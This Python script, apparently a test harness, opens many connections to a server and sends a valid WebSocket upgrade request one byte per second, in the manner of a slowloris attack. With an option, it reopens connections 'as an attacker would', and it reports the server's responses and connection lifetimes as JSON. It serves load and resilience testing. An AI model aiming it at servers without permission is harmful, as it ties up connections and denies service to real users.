#!/usr/bin/env python3
"""Slow WebSocket upgrade heads: N connections from source address SRC to HOST:PORT, each sending a
complete, valid upgrade request one byte a second (a head of ~170 bytes would take ~3 minutes).
When the server answers or closes, the connection's outcome is counted (the status line it got, or
"closed silently" / "reset") and, with --reconnect, a new slow connection takes its place, as an
attacker would. Runs SECONDS, then prints one JSON object.

    slowloris.py HOST PORT SRC N SECONDS [--reconnect]"""
import errno, json, os, selectors, socket, sys, time

host, port, src, n, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
reconnect = "--reconnect" in sys.argv
HEAD = (f"GET /sub/slow HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n").encode()
sel = selectors.DefaultSelector()
conns = {}  # socket -> [bytes sent, opened at]
outcomes, lifetimes = {}, []
opened = connect_errors = 0
first_at = {}


def count(key, born):
    outcomes[key] = outcomes.get(key, 0) + 1
    first_at.setdefault(key, round(time.time() - start, 1))
    lifetimes.append(time.time() - born)


def open_one():
    global opened, connect_errors
    s = socket.socket()
    s.setblocking(False)
    try:
        s.bind((src, 0))
        s.connect_ex((host, port))
    except OSError as e:
        connect_errors += 1
        s.close()
        return
    conns[s] = [0, time.time()]
    sel.register(s, selectors.EVENT_READ)
    opened += 1


def finish(s, key):
    sent, born = conns.pop(s)
    sel.unregister(s)
    s.close()
    count(key, born)
    if reconnect and time.time() < end:
        open_one()


start = time.time()
end = start + seconds
for _ in range(n):
    open_one()
tick = 0
max_open = len(conns)
while time.time() < end:
    # one byte to every connection each second, in ten slices of the second
    slice_end = start + (tick + 1) * 0.1
    socks = [s for i, s in enumerate(list(conns)) if i % 10 == tick % 10]
    for s in socks:
        st = conns.get(s)
        if st is None or st[0] >= len(HEAD):
            continue
        try:
            s.send(HEAD[st[0]:st[0] + 1])
            st[0] += 1
        except BlockingIOError:
            pass  # still connecting
        except OSError as e:
            finish(s, "send failed: " + errno.errorcode.get(e.errno, str(e.errno)))
    tick += 1
    while True:
        timeout = slice_end - time.time()
        if timeout <= 0:
            break
        for key, _ in sel.select(timeout):
            s = key.fileobj
            if s not in conns:
                continue
            try:
                data = s.recv(4096)
            except ConnectionResetError:
                finish(s, "reset")
                continue
            except OSError as e:
                finish(s, "recv failed: " + errno.errorcode.get(e.errno, str(e.errno)))
                continue
            if not data:
                finish(s, "closed silently")
            else:
                finish(s, data.split(b"\r\n", 1)[0].decode(errors="replace"))
    max_open = max(max_open, len(conns))
sent_bytes = sum(st[0] for st in conns.values())
lifetimes.sort()
print(json.dumps({"src": src, "initial": n, "opened": opened, "connect_errors": connect_errors, "open_at_end": len(conns),
                  "outcomes": outcomes, "first_outcome_at_s": first_at,
                  "lifetime_s": {"min": round(lifetimes[0], 2), "p50": round(lifetimes[len(lifetimes) // 2], 2),
                                 "max": round(lifetimes[-1], 2)} if lifetimes else None,
                  "bytes_sent_by_open": sent_bytes}))
